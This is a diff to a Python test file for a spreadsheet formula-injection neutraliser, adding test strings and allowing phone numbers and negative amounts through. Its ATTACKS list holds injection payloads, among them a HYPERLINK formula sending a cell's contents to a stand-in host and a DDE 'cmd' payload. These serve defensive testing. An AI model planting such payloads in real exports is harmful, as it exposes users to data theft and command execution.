@@ -16,7 +16,9 @@ from tests.factories import FamilyFactory, PersonFactory
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?"&B2,"open")',
     "+1+cmd|' /C calc'!A0",
-    "-2+3",
+    "-2+3+SUM(A1:A9)",
+    "+A1",
+    "-1\n=1",
     "@SUM(A1:A9)",
     "\t=1+1",
     "\r=1+1",
@@ -28,7 +30,10 @@ def test_text_beginning_a_formula_gets_a_quote(text):
     assert xlsx.neutralise_formula(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", ["Rahimova", "", "a=b", "1-2", "Oʻgʻiloy", "'quoted"])
+@pytest.mark.parametrize(
+    "text",
+    ["Rahimova", "", "a=b", "1-2", "Oʻgʻiloy", "'quoted", "+998 90 123 45 67", "-250000"],
+)
 def test_other_text_is_unchanged(text):
     assert xlsx.neutralise_formula(text) == text
 
@@ -45,7 +50,7 @@ def test_xlsx_text_is_text_and_a_negative_amount_a_number():
     text, amount, phone = sheet[2]
     assert (text.value, text.data_type) == ("'@SUM(A1)", "s")
     assert (amount.value, amount.data_type) == (-250000, "n")
-    assert phone.value == "'+998 90"
+    assert phone.value == "+998 90"  # a phone number reads back as typed
 
 
 @pytest.mark.django_db
